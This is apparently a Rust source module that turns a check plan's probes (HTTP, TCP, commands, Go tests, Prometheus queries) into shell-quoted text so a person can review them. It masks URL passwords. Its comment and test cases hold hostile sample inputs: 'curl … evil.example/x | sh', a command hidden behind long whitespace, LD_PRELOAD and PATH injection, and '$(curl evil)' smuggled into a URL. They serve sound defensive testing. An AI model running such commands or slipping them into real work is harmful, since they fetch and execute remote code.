//! What one probe of a plan asks, for a person who decides whether it may run.
//!
//! Every byte that reaches a program or a server is shown, quoted as a shell would need it. Secrets are shown by name.

use crate::check::file::{
    BinarySource, CommandTarget, GoQuestion, GoTarget, GoTests, HttpTarget, Notification, ProbeTarget,
    PrometheusTarget, ResourceScope, SecretText, SocketTarget,
};
use crate::shell::quote;
use gvmr_core::sys::printable;
use std::fmt::Write as _;
use std::time::Duration;

/// What a probe asks.
pub(super) fn target(target: &ProbeTarget) -> String {
    let path = printable::path;
    match target {
        ProbeTarget::Http(target) => http(target),
        ProbeTarget::Tcp(target) => {
            let address = match &target.address {
                SocketTarget::Tcp(host, port) => format!("{host}:{port}"),
                SocketTarget::Unix(socket) => format!("unix:{}", path(socket)),
            };
            let sent = target.send.as_ref().map(|text| format!(", send {}", word(text))).unwrap_or_default();
            format!("tcp {address}{}{sent}", if target.closed { " must be closed" } else { "" })
        }
        ProbeTarget::Tls(target) => format!("tls {}:{} as {}", target.host, target.port, target.name),
        ProbeTarget::Command(target) => command(target),
        ProbeTarget::File(target) => format!("file {}", path(&target.path)),
        ProbeTarget::Disk(disk) => format!("disk of {}", path(disk)),
        ProbeTarget::Memory(scope) => format!("memory of the {}", scope_name(*scope)),
        ProbeTarget::Cpu(scope, over) => {
            format!("processors of the {} over {}", scope_name(*scope), time(*over))
        }
        ProbeTarget::Prometheus(target) => prometheus(target),
        ProbeTarget::Secrets(target) => format!("credentials in {}", path(&target.path)),
        ProbeTarget::Go(target) => go(target),
    }
}

fn scope_name(scope: ResourceScope) -> &'static str {
    match scope {
        ResourceScope::Host => "machine",
        ResourceScope::Cgroup => "control group",
    }
}

/// `run LD_PRELOAD=/x.so sh -c 'curl http://a | sh'`
fn command(target: &CommandTarget) -> String {
    let variables = target.env.iter().map(|(name, value)| format!("{name}={}", word(value)));
    let words = target.words.iter().enumerate().map(|(number, one)| match word(one) {
        // It would be read as a variable.
        shown if number == 0 && one.contains('=') && shown == *one => format!("'{shown}'"),
        shown => shown,
    });
    format!("run {}", variables.chain(words).collect::<Vec<_>>().join(" "))
}

fn http(target: &HttpTarget) -> String {
    let mut text = format!("{} {}", target.method, target.url);
    if target.requests > 1 {
        let _ = write!(text, " {} times, {} at once", target.requests, target.concurrency); // to a string, as below
    }
    if let Some(address) = &target.address {
        let _ = write!(text, " at {address}");
    }
    text.push_str(&headers(&target.headers));
    if let Some(body) = &target.body {
        let _ = write!(text, ", send {}", word(body));
    }
    if target.login {
        text.push_str(", with the login of `gvmr auth`");
    }
    if target.redirects > 0 {
        let _ = write!(text, ", follow {} redirects", target.redirects);
    }
    if target.insecure {
        text.push_str(" INSECURE: certificates are not verified");
    }
    text
}

/// `, header X-Token: ${secret:TOKEN}`
fn headers(headers: &[(String, SecretText)]) -> String {
    let shown = headers
        .iter()
        .map(|(name, value)| format!(", header {name}: {}", plain_passwords_hidden(&value.to_string())));
    shown.collect::<Vec<_>>().concat()
}

/// `hooks.example (slack) on failure, header X-Token: ${secret:TOKEN}`
pub(super) fn notification(one: &Notification) -> String {
    let how = format!("({:?}) on {:?}", one.format, one.on).to_lowercase();
    format!("{} {how}{}", one.url.host(), headers(&one.headers))
}

/// A word, whole, as a shell would need it; only a password in an address is hidden.
fn word(text: &str) -> String {
    quote::readable(&plain_passwords_hidden(text))
}

/// `postgres://user:***@host`: the password alone, and only where it cannot be anything else. What a shell could run or
/// split stays.
fn plain_passwords_hidden(text: &str) -> String {
    let is_of_password = |one: char| one.is_alphanumeric() || "-._~%!*+,=".contains(one);
    let is_of_user = |one: char| is_of_password(one) && one != '=';
    let (mut shown, mut rest) = (String::new(), text);
    while let Some(start) = rest.find("://") {
        let (before, behind) = rest.split_at(start + "://".len());
        shown.push_str(before);
        rest = behind;
        let Some((user, behind_user)) = behind.split_once(':') else { continue };
        let password: String = behind_user.chars().take_while(|one| is_of_password(*one)).collect();
        let has_host = behind_user.get(password.len()..).is_some_and(|end| end.starts_with('@'));
        if has_host && !password.is_empty() && user.chars().all(is_of_user) {
            shown.push_str(user);
            shown.push_str(":***");
            rest = behind_user.get(password.len()..).unwrap_or_default();
        }
    }
    shown + rest
}

/// `go code.test of ./api/..., with the race detector`
fn go(target: &GoTarget) -> String {
    let program = |source: &BinarySource| match source {
        BinarySource::Built => String::new(),
        BinarySource::File(file) => format!(" of {}", printable::path(file)),
        BinarySource::Process(pid) => format!(" of process {pid}"),
    };
    let more = match &target.question {
        GoQuestion::Tests(GoTests { packages, race, tags }) => {
            let list = |words: &[String]| printable::text(&words.join(" "));
            let packages = (!packages.is_empty()).then(|| format!(" of {}", list(packages)));
            let race = race.then(|| ", with the race detector".to_owned());
            let tags = (!tags.is_empty()).then(|| format!(", with the tags {}", list(tags)));
            [packages, race, tags].into_iter().flatten().collect()
        }
        GoQuestion::Binaries(source) => program(source),
        GoQuestion::RunsOn(source, platform) => {
            let platform = platform.map(|platform| format!(", which must start with {platform}"));
            program(source) + &platform.unwrap_or_default()
        }
        GoQuestion::Vulnerabilities(options) => options
            .database
            .as_ref()
            .map(|database| format!(" by {}", printable::text(database)))
            .unwrap_or_default(),
        _ => String::new(),
    };
    format!("go {}{more}", target.name)
}

fn prometheus(target: &PrometheusTarget) -> String {
    let baseline = target.baseline.as_ref().map(|query| format!(", baseline {query}")).unwrap_or_default();
    format!("query {} at {}{baseline}", target.query, target.server)
}

/// `10 s`
pub(super) fn time(duration: Duration) -> String {
    format!("{} s", duration.as_secs_f64())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::file::parsed;
    use proptest::prelude::*;

    fn shown(lines: &str) -> String {
        target(&parsed(&format!("[a.b]\n{lines}")).dimensions[0].probes[0].target)
    }

    #[test]
    fn every_byte_that_is_run_or_sent_is_shown() {
        let far = format!("true{}; curl evil", " ".repeat(150));
        for (lines, expected) in [
            (r#"command = ["touch", "ran"]"#, "run touch ran".to_owned()),
            (
                r#"command = ["sh", "-c", "curl -s http://evil.example/x | sh; : u://a@ok"]"#,
                "run sh -c 'curl -s http://evil.example/x | sh; : u://a@ok'".to_owned(),
            ),
            (&format!("command = [\"sh\", \"-c\", \"{far}\"]"), format!("run sh -c '{far}'")),
            (
                "command = [\"ls\"]\nenv = { PATH = \"/evil\", LD_PRELOAD = \"a b\" }",
                "run LD_PRELOAD='a b' PATH=/evil ls".to_owned(),
            ),
            (
                r#"command = ["a\nb", "\u001b[2J", "\u202ex'", "é"]"#,
                r"run $'a\nb' $'\x1b[2J' $'\u202ex\'' 'é'".to_owned(),
            ),
            (r#"command = ["A=b", "A=b"]"#, "run 'A=b' A=b".to_owned()),
            (
                r#"command = ["psql", "postgres://joe:hush@db/x", "u://a:$(curl evil)@ok"]"#,
                "run psql 'postgres://joe:***@db/x' 'u://a:$(curl evil)@ok'".to_owned(),
            ),
            (
                "http = \"https://h/\"\nmethod = \"POST\"\nsend = \"a\\nb\"\nheaders = { Cookie = \"${secret:C}\" }",
                r"POST https://h/, header Cookie: ${secret:C}, send $'a\nb'".to_owned(),
            ),
            ("tcp = \"h:1\"\nsend = \"PING \"", "tcp h:1, send 'PING '".to_owned()),
        ] {
            assert_eq!(shown(lines), expected);
        }
    }

    proptest! {
        #[test]
        fn nothing_but_a_password_is_hidden(before in "[ -~]{0,20}", user in "[a-z]{1,9}", password in "[a-zA-Z0-9%._~-]{1,20}", after in "[ -~]{0,20}") {
            prop_assume!(!before.contains(':'));
            let hidden = plain_passwords_hidden(&format!("{before}x://{user}:{password}@{after}"));
            prop_assert!(hidden.starts_with(&format!("{before}x://{user}:***@")), "{hidden}");
            prop_assert!(after.contains("://") || hidden.ends_with(&after), "{hidden}");
            let text = format!("{before}{after}");
            prop_assert!(text.contains("://") || plain_passwords_hidden(&text) == text);
        }
    }
}
